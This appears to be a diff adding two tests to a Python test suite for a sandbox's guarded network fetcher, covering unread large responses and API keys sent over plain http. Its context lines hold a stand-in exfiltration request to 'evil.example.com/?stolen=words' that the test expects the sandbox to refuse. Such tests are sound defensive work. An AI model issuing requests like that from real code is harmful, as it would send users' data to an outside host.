@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 
 from qingtuan.capabilities.sandbox.base import Job, Limits, Ran
+from qingtuan.net.answers import Answer
 from qingtuan.net.fetcher import SafeFetcher
 from tests.fakes.sandboxes import Trial
 from tests.fakes.service import APPROVED, NEAR, Service
@@ -236,3 +237,37 @@ async def test_what_leaves_shows_in_the_trace(sandbox: Trial, service: Service) 
     found = await asked(sandbox, service, "https://evil.example.com/?stolen=words")
     assert [(one.url, one.status) for one in found.fetched] == [("https://evil.example.com/?stolen=words", None)]
     assert found.fetched[0].refused
+
+
+async def test_answers_that_nobody_reads_are_not_piled_up(sandbox: Trial, service: Service) -> None:
+    """Twenty large ones, asked for by code that never looks at its input again."""
+    url = service.answers("/large", b"x" * 1024 * 1024)
+    fetch = '{"fetch":{"id":%d,"method":"GET","url":"%s","headers":[],"body":null,"redirect":"follow"}}'
+    lines = [fetch % (number, url) for number in range(20)]
+    code = """export default ({ lines }) => {
+      for (const line of lines) Deno.stdout.writeSync(new TextEncoder().encode(line + '\\n'));
+      for (;;);
+    };"""
+    sandbox.sandbox.fetcher = service.fetcher
+    found = await sandbox.sandbox.run(Job(code, {"lines": lines}, (service.host,), limits=Limits(seconds=1.0)))
+    assert found.fault is not None
+    assert found.fault.kind == "time"
+    assert len(service.server.asked) <= 8
+    await sandbox.works()
+
+
+async def test_a_key_is_not_coaxed_over_a_plain_line(sandbox: Trial, service: Service) -> None:
+    """The code may choose http for an approved name: then what we add stays here."""
+    sandbox.sandbox.fetcher = SafeFetcher(
+        resolve=service.fetcher.door.resolve, trusted=frozenset({("api.example.com", 80)})
+    )
+    job = Job(ASK, {"url": "http://api.example.com/", "init": {}}, (APPROVED,), {APPROVED: {"X-Key": "sk-secret"}})
+    seen: list[Mapping[str, str]] = []
+
+    async def request(method: str, url: str, *, headers: Mapping[str, str], **_: Any) -> Answer:
+        seen.append(headers)
+        return Answer(200, {}, b"x", url)
+
+    sandbox.sandbox.fetcher.request = request  # type: ignore[method-assign, assignment]
+    assert (await sandbox.sandbox.run(job)).value == [200, "x"]
+    assert all("x-key" not in headers for headers in seen)
